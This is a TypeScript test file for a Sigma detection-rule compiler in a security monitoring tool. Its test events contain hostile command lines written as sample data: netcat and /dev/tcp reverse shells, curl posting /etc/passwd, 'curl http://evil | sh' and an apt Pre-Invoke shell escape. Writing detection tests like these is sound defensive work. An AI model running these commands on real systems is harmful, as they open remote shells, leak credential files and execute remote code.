import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'yaml';
import { fromRoot } from '../../common/paths.js';
import type { EnrichedEventInput } from '../../schemas/generated/enriched_event.js';
import { compileSigmaRule, type SigmaRule } from './compile.js';
import { loadSigmaDirectory } from './loader.js';
import { formatSigmaReport } from './report.js';
import { compileValues, transformVariants } from './values.js';

function exec(executable: string, commandLine: string, extra: Partial<EnrichedEventInput> = {}): EnrichedEventInput {
  return {
    id: 'e1',
    timestamp: 1,
    event: { kind: 'event', category: ['process'], type: ['start'], dataset: 'osquery.process_events' },
    process: { pid: 10, executable, command_line: commandLine, parent: { executable: '/bin/bash' } },
    user: { name: 'alice' },
    ...extra,
  };
}

function rule(yamlText: string): SigmaRule {
  const result = compileSigmaRule(parse(yamlText) as Record<string, unknown>);
  if (!result.ok) throw new Error(result.reason);
  return result.rule;
}

const bundled = loadSigmaDirectory(fromRoot('correlator/sigma/rules'));

test('every bundled Linux process_creation, network_connection and file_event rule loads', () => {
  assert.deepEqual(bundled.rejected, []);
  assert.equal(bundled.loaded.length, 167);
  assert.equal(bundled.loaded.filter((r) => r.category === 'process_creation').length, 144);
  assert.equal(bundled.loaded.filter((r) => r.category === 'network_connection').length, 5);
  assert.equal(bundled.loaded.filter((r) => r.category === 'file_event').length, 18);
});

test('rules for event streams Osprey does not have are reported with the reason', () => {
  const report = loadSigmaDirectory(fromRoot('correlator/sigma/fixtures/unsupported'));
  assert.equal(report.loaded.length, 0);
  assert.equal(report.rejected.length, 2);
  assert.match(report.rejected.find((r) => r.file.includes('auditd'))?.reason ?? '', /service auditd/);
  assert.match(formatSigmaReport('x', report), /not evaluable 2/);
});

function bundledRule(id: string): SigmaRule {
  const found = bundled.loaded.find((r) => r.id === id);
  assert.ok(found, `bundled rule ${id}`);
  return found;
}

test('a real SigmaHQ rule (apt shell invocation: endswith list and contains) fires only on its pattern', () => {
  const apt = bundledRule('bb382fd5-b454-47ea-a264-1828e4c766d6');
  assert.equal(apt.level, 'medium');
  assert.deepEqual(apt.mitreTechniques, ['T1083']);
  assert.ok(apt.appliesTo(exec('/usr/bin/apt-get', 'x')));
  assert.ok(apt.matches(exec('/usr/bin/apt-get', 'apt-get update -o APT::Update::Pre-Invoke::=/bin/sh')));
  assert.ok(apt.matches(exec('/USR/BIN/APT', 'apt -o apt::update::pre-invoke::=sh')), 'case-insensitive');
  assert.ok(!apt.matches(exec('/usr/bin/apt-get', 'apt-get update')));
  assert.ok(!apt.matches(exec('/usr/bin/aptitude', 'APT::Update::Pre-Invoke::=sh')));
});

test('a real network_connection rule: bash to a remote address, loopback filtered', () => {
  const reverse = bundledRule('83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871');
  const flow = (ip: string): EnrichedEventInput => ({
    id: 'f',
    timestamp: 1,
    event: { kind: 'event', category: ['network'], type: ['connection'], dataset: 'osprey.flow' },
    process: { executable: '/usr/bin/bash' },
    destination: { ip, port: 4242 },
  });
  assert.ok(reverse.appliesTo(flow('10.0.0.1')));
  assert.ok(reverse.matches(flow('10.0.0.1')));
  assert.ok(!reverse.matches(flow('127.0.0.1')));
  assert.ok(!reverse.appliesTo(exec('/usr/bin/bash', 'bash')));
});

test('conditions: and, or, not, parentheses, 1 of, all of, them', () => {
  const r = rule(`
title: t
id: c1
logsource: { category: process_creation, product: linux }
detection:
  sel_a: { Image|endswith: /nc }
  sel_b: { CommandLine|contains: ' -e ' }
  filter_1: { User: root }
  filter_2: { CurrentDirectory|startswith: /opt/ }
  condition: (all of sel_* and not 1 of filter_*)
`);
  assert.ok(r.matches(exec('/bin/nc', 'nc -e /bin/sh 1.2.3.4 4444')));
  assert.ok(!r.matches(exec('/bin/nc', 'nc -l 4444')));
  assert.ok(!r.matches(exec('/bin/nc', 'nc -e sh x', { user: { name: 'root' } })));
  const them = rule(`
title: t
id: c2
logsource: { category: process_creation }
detection:
  a: { Image: /bin/nc }
  b: { Image: /bin/ncat }
  condition: 1 of them and not (a and b)
`);
  assert.ok(them.matches(exec('/bin/ncat', '')));
  assert.ok(!them.matches(exec('/bin/socat', '')));
});

test('a list of maps is OR, fields in a map are AND, null means absent', () => {
  const r = rule(`
title: t
id: c3
logsource: { category: process_creation }
detection:
  selection:
    - { Image|endswith: /curl, CommandLine|contains: '--data' }
    - { Image|endswith: /wget, ParentCommandLine: null }
  condition: selection
`);
  assert.ok(r.matches(exec('/usr/bin/curl', 'curl --data @/etc/passwd http://x')));
  assert.ok(!r.matches(exec('/usr/bin/curl', 'curl http://x')));
  assert.ok(r.matches(exec('/usr/bin/wget', 'wget x')));
});

test('modifiers: contains|all, startswith, wildcards and escapes, re with flags', () => {
  assert.ok(compileValues(['contains', 'all'], ['-i', '/dev/tcp/'])('bash -i >& /dev/tcp/1.2.3.4/80'));
  assert.ok(!compileValues(['contains', 'all'], ['-i', '/dev/tcp/'])('bash -i'));
  assert.ok(compileValues(['startswith'], ['/tmp/'])('/TMP/x'));
  assert.ok(compileValues([], ['/usr/*/python?'])('/usr/bin/python3'));
  assert.ok(!compileValues([], ['a\\*b'])('axxb'));
  assert.ok(compileValues([], ['a\\*b'])('a*b'));
  assert.ok(compileValues(['re'], ['^ba[sz]h$'])('bash'));
  assert.ok(!compileValues(['re'], ['^BASH$'])('bash'), 're is case-sensitive');
  assert.ok(compileValues(['re', 'i'], ['^BASH$'])('bash'));
  assert.ok(compileValues(['cased'], ['Bash'])('Bash'));
  assert.ok(!compileValues(['cased'], ['Bash'])('bash'));
});

test('modifiers: cidr, exists, lt/gt, numbers and arrays', () => {
  assert.ok(compileValues(['cidr'], ['10.0.0.0/8'])('10.2.3.4'));
  assert.ok(!compileValues(['cidr'], ['10.0.0.0/8'])('11.2.3.4'));
  assert.ok(compileValues(['cidr'], ['fe80::/10'])('fe80::1'));
  assert.ok(compileValues(['exists'], [true])('x'));
  assert.ok(compileValues(['exists'], [false])(undefined));
  assert.ok(compileValues(['gt'], [1024])(4444));
  assert.ok(!compileValues(['lte'], [1024])(4444));
  assert.ok(compileValues([], [4444])(4444));
  assert.ok(compileValues(['contains'], ['evil'])(['good', 'evil.sh']));
});

test('modifiers: base64, base64offset, windash, wide', () => {
  assert.ok(compileValues(['base64'], ['/bin/sh'])('L2Jpbi9zaA=='));
  const blob = Buffer.from('xx curl http://evil | sh').toString('base64');
  for (const pad of ['', 'a', 'ab']) {
    const encoded = Buffer.from(`${pad}curl http://evil`).toString('base64');
    assert.ok(compileValues(['base64offset', 'contains'], ['curl http://evil'])(encoded), `offset ${pad.length}`);
  }
  assert.ok(compileValues(['base64offset', 'contains'], ['curl http://evil'])(blob));
  assert.ok(compileValues(['windash', 'contains'], [' -enc '])('powershell /enc AAA'));
  assert.deepEqual(transformVariants(['wide', 'base64'], 'ab'), [Buffer.from('ab', 'utf16le').toString('base64')]);
});

test('rules that cannot be evaluated say why', () => {
  const bad = (detection: string) => {
    const r = compileSigmaRule(
      parse(`title: t\nid: x\nlogsource: { category: process_creation }\ndetection:\n${detection}`) as Record<
        string,
        unknown
      >,
    );
    assert.equal(r.ok, false);
    return r.ok ? '' : r.reason;
  };
  assert.match(bad('  sel: { Foo: 1 }\n  condition: sel'), /field Foo has no mapping/);
  assert.match(bad('  keywords: [a, b]\n  condition: keywords'), /keyword list/);
  assert.match(bad('  sel: { Image|frobnicate: 1 }\n  condition: sel'), /unknown modifier "frobnicate"/);
  assert.match(bad('  sel: { Image: x }\n  condition: other'), /does not define/);
  assert.match(bad('  sel: { Image: x }\n  condition: (sel'), /unclosed/);
  assert.match(bad('  sel: { Image|re: "(" }\n  condition: sel'), /does not compile/);
});
